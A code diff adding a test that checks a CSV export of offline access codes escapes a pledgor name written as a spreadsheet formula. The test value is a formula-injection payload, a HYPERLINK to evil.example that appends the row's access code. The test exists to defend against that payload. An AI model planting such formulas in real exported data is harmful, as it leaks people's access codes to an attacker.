@@ -3,6 +3,8 @@ owner may read it, whatever the umask, and an existing file is not silently repl
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import stat
 from pathlib import Path
@@ -37,3 +39,15 @@ def test_an_existing_readable_file_is_made_private_too(tmp_path: Path) -> None:
     _offline_codes(_report(), path)
     assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
     assert "old" not in path.read_text(encoding="utf-8-sig")
+
+
+def test_a_name_written_as_a_formula_is_neutralised_in_the_codes_file(tmp_path: Path) -> None:
+    # A live HYPERLINK would send the row's access code (C2) to whoever wrote the name.
+    report = _report()
+    formula = '=HYPERLINK("http://evil.example/?"&C2,"点击")'
+    report.offline_codes[0]["pledgor_name"] = formula
+    path = tmp_path / "codes.csv"
+    _offline_codes(report, path)
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    assert rows[1][1] == "'" + formula
+    assert rows[1][2] == "K7QM-2XRT-9PWD"
